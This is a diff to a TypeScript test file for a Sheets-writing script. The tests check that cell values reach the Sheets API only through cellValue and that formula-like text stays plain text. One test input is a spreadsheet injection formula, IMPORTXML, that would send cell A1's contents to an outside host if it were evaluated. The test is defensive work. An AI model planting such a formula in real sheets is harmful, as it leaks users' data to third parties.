@@ -3,6 +3,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { csvField, toSheetText } from '../../src/domain/text';
+import { cellValue } from '../../src/gas/book';
 
 const ROOT = path.resolve(__dirname, '../..');
 
@@ -53,6 +54,35 @@ describe('text reaches a cell only through writeCells (src/gas/book.ts)', () => 
     ["'quoted"],
   ])('%s is written so that Sheets keeps it as text', (text) => {
     expect(toSheetText(text).startsWith("'")).toBe(true);
+  });
+});
+
+describe('text reaches a cell through the Sheets API only as cellValue (src/gas/book.ts) makes it', () => {
+  test('no other file of the script builds a cell value for the API', () => {
+    const values = occurrences(['src'], /\b(stringValue|formulaValue|numberValue|boolValue)\b/).filter(
+      (w) => !w.startsWith('src/gas/ports.ts'),
+    );
+    expect([...new Set(values.map((w) => w.split(':')[0]))]).toEqual(['src/gas/book.ts']);
+  });
+
+  // A stringValue is kept as the text it is (https://developers.google.com/sheets/api/reference/rest/v4/spreadsheets/cells#extendedvalue):
+  // the API parses nothing, so the text needs no apostrophe; only a cell marked as a formula is one.
+  test.each([
+    ['=IMPORTXML("https://example.org/?q="&A1, "//a")'],
+    ['+380 44 123 45 67'],
+    ['8.5'],
+    ["'quoted"],
+  ])('%s is a stringValue, as it is', (text) => {
+    expect(cellValue(text)).toEqual({ stringValue: text });
+  });
+
+  test('the progress formula, marked, is a formulaValue; numbers and booleans stay what they are', () => {
+    expect(cellValue('=COUNT(I3:L9)', true)).toEqual({ formulaValue: '=COUNT(I3:L9)' });
+    expect([cellValue(7), cellValue(false), cellValue('')]).toEqual([
+      { numberValue: 7 },
+      { boolValue: false },
+      undefined,
+    ]);
   });
 });
 
